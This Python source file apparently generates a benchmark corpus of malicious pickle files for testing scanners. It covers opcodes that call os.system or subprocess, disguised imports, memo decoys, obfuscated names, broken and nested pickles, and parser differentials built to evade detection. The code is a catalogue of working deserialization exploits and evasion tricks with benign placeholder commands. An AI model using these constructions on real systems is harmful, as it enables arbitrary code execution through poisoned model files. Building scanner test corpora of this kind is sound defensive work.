"""Pickles that call something: each way that the pickle machine has to import and to call, and to hide both."""

from __future__ import annotations

import base64
import marshal
import pickle
import struct
import zlib
from collections.abc import Iterator

from benchmarks.corpus.programs import (
    COMMAND,
    PAYLOAD,
    SYSTEM,
    Call,
    call,
    data,
    evil,
    glob,
    proto,
    short,
    stack_global,
    text,
)
from benchmarks.corpus.sample import Group, Sample


def opcodes() -> Iterator[Sample]:
    """Each opcode that calls, in each protocol that has it."""
    for protocol in range(6):
        yield Sample(
            f"reduce-protocol{protocol}.pkl", pickle.dumps({"weights": [1.0], "x": PAYLOAD}, protocol), "pickle"
        )
    yield Sample("inst.pkl", b"(S'true'\nios\nsystem\n.")
    yield Sample("inst-tuple-args.pkl", b"(lp0\n(S'true'\niposix\nsystem\np1\na.")
    yield Sample("obj.pkl", b"(" + glob("os", "system") + text(COMMAND) + b"o.")
    yield Sample("obj-nt.pkl", b"(" + glob("nt", "system") + text(COMMAND) + b"o.")
    yield Sample("newobj.pkl", proto(2) + glob("subprocess", "Popen") + text(COMMAND) + b"\x85\x81.")
    lazy = glob("builtins", "map") + glob("os", "system") + b"]" + text(COMMAND) + b"a\x86\x81"
    yield Sample("newobj-map-tuple.pkl", proto(2) + glob("builtins", "tuple") + lazy + b"\x85\x81.")
    yield Sample("newobj-ex.pkl", proto(4) + glob("subprocess", "Popen") + text(COMMAND) + b"\x85}\x92.")
    arm = glob("types", "SimpleNamespace") + b")\x81}" + text("__setstate__") + glob("os", "system") + b"sb"
    yield Sample("build-setstate.pkl", proto(2) + arm + text(COMMAND) + b"b.")
    yield Sample("global-reduce.pkl", b"cos\nsystem\n(S'true'\ntR.")
    yield Sample("global-builtins-eval.pkl", b"cbuiltins\neval\n(V__import__('os').system('true')\ntR.")
    yield Sample("global-builtins-exec.pkl", b"c__builtin__\nexec\n(Vprint('hello')\ntR.")
    yield Sample("stack-global.pkl", proto(4) + call(stack_global("os", "system"), short(COMMAND)) + b".")
    yield Sample(
        "stack-global-popen.pkl", proto(5) + call(stack_global("subprocess", "check_output"), short(COMMAND)) + b"."
    )
    yield Sample(
        "long-forms.pkl",
        proto(4)
        + b"\x8d"
        + struct.pack("<Q", 5)
        + b"posix"
        + b"\x8d"
        + struct.pack("<Q", 6)
        + b"system\x93("
        + text(COMMAND)
        + b"tR.",
    )


def python2_names() -> Iterator[Sample]:
    """Names that Python 3 renames as it reads protocols below 3."""
    for module, attribute in (
        ("commands", "getoutput"),
        ("commands", "getstatusoutput"),
        ("__builtin__", "eval"),
        ("__builtin__", "execfile"),
        ("__builtin__", "apply"),
        ("os", "popen2"),
        ("__builtin__", "reload"),
    ):
        yield Sample(f"{module.strip('_')}-{attribute}.pkl", call(glob(module, attribute), b"S'true'\n") + b".")
    nested = call(glob("__builtin__", "getattr"), call(glob("__builtin__", "__import__"), b"S'os'\n"), b"S'system'\n")
    yield Sample("builtin-getattr.pkl", call(nested, b"S'true'\n") + b".")
    yield Sample(
        "cpickle-loads.pkl", call(glob("cPickle", "loads"), b"S" + repr(evil(0).decode()).encode() + b"\n") + b"."
    )


def extension_registry() -> Iterator[Sample]:
    """Callables by number: registered by the stream itself, or by whoever loads it."""
    register = call(glob("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"0"
    yield Sample("ext1.pkl", proto(2) + register + call(b"\x82\x01", text(COMMAND)) + b".")
    register = call(glob("copyreg", "add_extension"), text("os"), text("system"), b"M\x01\x02") + b"0"
    yield Sample("ext2.pkl", proto(2) + register + call(b"\x83\x01\x02", text(COMMAND)) + b".")
    register = call(glob("copyreg", "add_extension"), text("os"), text("system"), b"J\x01\x00\x01\x00") + b"0"
    yield Sample("ext4.pkl", proto(2) + register + call(b"\x84\x01\x00\x01\x00", text(COMMAND)) + b".")
    yield Sample("ext1-of-the-host.pkl", proto(2) + call(b"\x82\x07", text(COMMAND)) + b".")


def decoys() -> Iterator[Sample]:
    """The stack and the memo hold something else than a look back over the opcodes suggests."""
    end = call(b"", short(COMMAND)) + b"."
    yield Sample("pop.pkl", proto(4) + short("os") + short("system") + short("decoy") + b"0\x93" + end)
    yield Sample(
        "pop-mark.pkl", proto(4) + short("os") + short("system") + b"(" + short("a") + short("b") + b"1\x93" + end
    )
    yield Sample("dup.pkl", proto(4) + short("os") + short("system") + b"20\x93" + end)
    yield Sample("dup-name.pkl", proto(4) + short("code") + b"2\x93" + end)
    fetched = short("os") + b"\x940" + short("system") + b"\x940" + short("math") + b"0h\x00h\x01\x93"
    yield Sample("memo.pkl", proto(4) + fetched + end)
    replaced = short("math") + b"q\x000" + short("os") + b"q\x000" + short("system") + b"q\x010h\x00h\x01\x93"
    yield Sample("memo-replaced.pkl", proto(4) + replaced + end)
    mixed = (
        short("x")
        + b"\x940"
        + short("os")
        + b"r\x05\x00\x00\x000"
        + short("system")
        + b"\x940j\x05\x00\x00\x00h\x02\x93"
    )
    yield Sample("memo-mixed.pkl", proto(4) + mixed + end)
    text_memo = b"Vos\np7\n0Vsystem\np9\n0g7\ng9\n\x93(Vtrue\ntR."
    yield Sample("memo-by-text.pkl", text_memo)
    missing = proto(4) + call(stack_global("os", "system"), short(COMMAND)) + b"h\x63."
    yield Sample("memo-missing-key.pkl", missing)
    listed = b"](" + short("os") + short("math") + b"e0" + short("os") + short("system") + b"\x93"
    yield Sample("lists-between.pkl", proto(4) + listed + end)
    yield Sample(
        "function-from-memo.pkl",
        proto(4)
        + stack_global("os", "system")
        + b"\x940"
        + glob("math", "floor")
        + b"0"
        + call(b"h\x00", short(COMMAND))
        + b".",
    )
    arguments = proto(4) + stack_global("os", "system") + short(COMMAND) + b"\x85\x94" + b"0h\x00R."
    yield Sample("arguments-from-memo.pkl", arguments)


def computed_names() -> Iterator[Sample]:
    """Module or name are results of earlier calls."""

    def stacked(module: bytes, attribute: bytes) -> bytes:
        return proto(4) + module + attribute + b"\x93(" + short(COMMAND) + b"tR."

    joined = call(glob("builtins", "str.join"), short(""), b"](" + short("sys") + short("tem") + b"e")
    yield Sample("str-join.pkl", stacked(short("os"), joined))
    decoded = call(glob("_codecs", "decode"), short("flfgrz"), short("rot13"))
    yield Sample("codecs-rot13.pkl", stacked(short("os"), decoded))
    encoded = call(glob("_codecs", "decode"), b"C\x0c" + b"73797374656d", short("hex"))
    yield Sample("codecs-hex.pkl", stacked(short("os"), call(glob("builtins", "bytes.decode"), encoded)))
    yield Sample(
        "str-replace.pkl",
        stacked(short("os"), call(glob("builtins", "str.replace"), short("sysXtem"), short("X"), short(""))),
    )
    yield Sample("str-lower.pkl", stacked(short("os"), call(glob("builtins", "str.lower"), short("SYSTEM"))))
    sliced = call(
        glob("operator", "getitem"), short("metsys"), call(glob("builtins", "slice"), b"N", b"N", b"J\xff\xff\xff\xff")
    )
    yield Sample("slice.pkl", stacked(short("os"), sliced))
    yield Sample("operator-add.pkl", stacked(short("os"), call(glob("operator", "add"), short("sys"), short("tem"))))
    yield Sample(
        "str-format.pkl", stacked(short("os"), call(glob("builtins", "str.format"), short("sys{}"), short("tem")))
    )
    chain = call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), short("os")), short("system"))
    yield Sample("getattr-import.pkl", proto(4) + call(chain, short(COMMAND)) + b".")
    chain = call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), short("os")), short("system"))
    yield Sample("getattr-import-module.pkl", proto(4) + call(chain, short(COMMAND)) + b".")
    chain = call(call(glob("operator", "attrgetter"), short("system")), glob("os", "__dict__"))
    yield Sample("attrgetter.pkl", proto(4) + call(chain, short(COMMAND)) + b".")
    chain = call(glob("operator", "methodcaller"), short("system"), short(COMMAND))
    yield Sample(
        "methodcaller.pkl", proto(4) + call(chain, call(glob("importlib", "import_module"), short("os"))) + b"."
    )
    chain = call(glob("builtins", "getattr"), glob("torch", "nn"), short("__builtins__"))
    yield Sample("getattr-dunder.pkl", proto(4) + call(glob("operator", "getitem"), chain, short("eval")) + b".")
    chain = call(glob("functools", "partial"), glob("os", "system"), short(COMMAND))
    yield Sample("partial.pkl", proto(4) + call(chain) + b".")
    chain = call(glob("functools", "reduce"), glob("os", "system"), b"](" + short(COMMAND) + b"e", short(COMMAND))
    yield Sample("functools-reduce.pkl", proto(4) + chain + b".")
    walked = call(
        glob("builtins", "list"), call(glob("builtins", "map"), glob("os", "system"), b"](" + short(COMMAND) + b"e")
    )
    yield Sample("map-list.pkl", proto(4) + walked + b".")


def dotted_names() -> Iterator[Sample]:
    """A qualified name with dots that walks from a harmless module to another."""
    for module, attribute in (
        ("tempfile", "_os.system"),
        ("random", "_os.system"),
        ("logging", "os.system"),
        ("torch", "os.system"),
        ("numpy", "os.system"),
        ("collections", "_sys.modules"),
        ("torch.storage", "io.open_code"),
        ("torch._utils", "sys.modules.__class__"),
        ("collections.abc", "sys.modules.get"),
        ("joblib", "os.system"),
    ):
        program = proto(4) + call(stack_global(module, attribute), short(COMMAND)) + b"."
        yield Sample(f"{module}-{attribute}.pkl".replace("._", "."), program)


def broken() -> Iterator[Sample]:
    """The payload runs before the loader meets the mistake."""
    whole = evil(2)
    body = whole[:-1]
    yield Sample("no-stop.pkl", body)
    yield Sample("no-stop.bin", body)
    yield Sample("unknown-opcode.pkl", body + b"\xff\xfe")
    yield Sample("garbage-tail.pkl", body + bytes(range(128, 256)) * 4)
    yield Sample("text-tail.pkl", whole + b"this is the rest of the file\n" * 20)
    yield Sample("zero-tail.pkl", whole + bytes(4096))
    yield Sample("nullifai.pt", b"".join([proto(2), SYSTEM, b"0", b"X\xff\xff\x00\x00cut"]))
    yield Sample("stack-underflow.pkl", body + b"0000R.")
    yield Sample("cut-in-string.pkl", body + b"X\x40\x00\x00\x00short")
    yield Sample(
        "cut-frame.pkl",
        proto(4) + b"\x95" + struct.pack("<Q", 999) + call(stack_global("os", "system"), short(COMMAND)),
    )
    yield Sample("missing-memo.pkl", body + b"h\xfe.")
    yield Sample("bad-mark.pkl", body + b"t.")
    yield Sample("bad-int.pkl", body + b"Inot a number\n.")
    yield Sample("future-protocol.pkl", body + b"\x80\x63.")


def differential() -> Iterator[Sample]:
    """What the C unpickler takes and a stricter parser refuses."""
    tail = call(glob("os", "system"), text(COMMAND)) + b"."
    yield Sample("int-hex.pkl", b"I0x10\n0" + tail)
    yield Sample("int-octal.pkl", b"I0o17\n0" + tail)
    yield Sample("long-with-underscore.pkl", b"L1_0L\n0" + tail)
    yield Sample("int-spaces.pkl", b"I 16 \n0" + tail)
    yield Sample("string-utf8.pkl", "S'h\u00e9llo'\n0".encode() + tail)
    yield Sample("string-not-ascii.pt", proto(2) + "U\x04\u00e9\u00e9".encode() + b"0" + tail)
    yield Sample("frame-too-long.pkl", proto(4) + b"\x95" + struct.pack("<Q", 4) + tail)
    yield Sample(
        "frame-in-frame.pkl", proto(4) + b"\x95" + struct.pack("<Q", 60) + b"\x95" + struct.pack("<Q", 2) + tail
    )
    yield Sample("two-protos.pkl", proto(2) + proto(4) + proto(0) + tail)
    yield Sample("proto-4-no-frame.pkl", proto(4) + tail)
    yield Sample("float-nan.pkl", b"Fnan\n0" + tail)
    yield Sample("raw-unicode.pkl", b"V\\u006fs\n0V\\u0073ystem\n0" + b"V\\u006fs\nV\\u0073ystem\n\x93(Vtrue\ntR.")
    yield Sample("get-padded.pkl", b"Vos\np007\n0" + b"g7\nVsystem\n\x93(Vtrue\ntR.")
    yield Sample("put-huge.pkl", b"Vx\np4000000\n0" + tail)
    yield Sample("bool-as-int.pkl", b"I01\n0I00\n0" + tail)


def exceptions() -> Iterator[Sample]:
    """A load that fails on purpose: what runs is the handling of the error."""
    raising = call(glob("builtins", "int"), text("not a number"))
    yield Sample("raise-then-call.pkl", proto(2) + SYSTEM + b"0" + raising + b".")
    yield Sample("pydoc-error.pkl", proto(4) + call(stack_global("pydoc", "safeimport"), short("this")) + b".")
    yield Sample("cgitb-handler.pkl", proto(4) + call(stack_global("cgitb", "handler")) + b".")
    yield Sample("excepthook.pkl", proto(4) + call(stack_global("sys", "excepthook"), b"N", b"N", b"N") + b".")
    yield Sample("pdb-post-mortem.pkl", proto(4) + call(stack_global("pdb", "post_mortem")) + b".")


def nested() -> Iterator[Sample]:
    """A second pickle in the first."""
    inner = evil(2)
    for module, attribute in (
        ("pickle", "loads"),
        ("_pickle", "loads"),
        ("dill", "loads"),
        ("cloudpickle", "loads"),
        ("torch.storage", "_load_from_bytes"),
        ("joblib", "load"),
        ("marshal", "loads"),
    ):
        yield Sample(f"{module}-{attribute}.pkl", proto(3) + call(glob(module, attribute), data(inner)) + b".")
    for module, attribute in (("joblib", "load"), ("pandas", "read_pickle"), ("torch", "load"), ("numpy", "load")):
        yield Sample(
            f"{module}-{attribute}-path.pkl", proto(2) + call(glob(module, attribute), text("other.pkl")) + b"."
        )
    stream = call(glob("_io", "BytesIO"), data(inner))
    yield Sample("pickle-load-bytesio.pkl", proto(3) + call(glob("pickle", "load"), stream) + b".")
    yield Sample("stacked.pkl", pickle.dumps([1, 2, 3], 4) + inner, "pickle")
    yield Sample("stacked-third.pkl", pickle.dumps(1, 2) + pickle.dumps("x" * 300, 4) + inner, "pickle")
    yield Sample("padded.pkl", bytes(16) + inner)
    yield Sample("in-bytes.pkl", pickle.dumps({"blob": inner}, 4), "pickle")
    coded = call(glob("base64", "b64decode"), text(base64.b64encode(inner).decode()))
    yield Sample("base64.pkl", proto(3) + call(glob("pickle", "loads"), coded) + b".")
    packed = call(glob("zlib", "decompress"), data(zlib.compress(inner)))
    yield Sample("zlib.pkl", proto(3) + call(glob("pickle", "loads"), packed) + b".")
    code = marshal.dumps(compile("print('hello')", "x", "exec"))
    yield Sample(
        "marshal-exec.pkl", proto(3) + call(glob("builtins", "exec"), call(glob("marshal", "loads"), data(code))) + b"."
    )
    yield Sample("encoded-text.pkl", pickle.dumps(Call(pickle.loads, inner), 0), "pickle")


GROUPS = (
    Group("opcodes", opcodes, "https://docs.python.org/3/library/pickle.html"),
    Group("python2-names", python2_names),
    Group("extension-registry", extension_registry),
    Group("memo-and-stack-decoys", decoys),
    Group("computed-names", computed_names, "arXiv:2508.19774"),
    Group("dotted-names", dotted_names, "GHSA-5j3x-jp52-966f"),
    Group("broken-pickles", broken, "GHSA-9gvj-pp9x-gcfr"),
    Group("parser-differential", differential),
    Group("exception-oriented", exceptions, "arXiv:2508.19774"),
    Group("nested-pickles", nested),
)
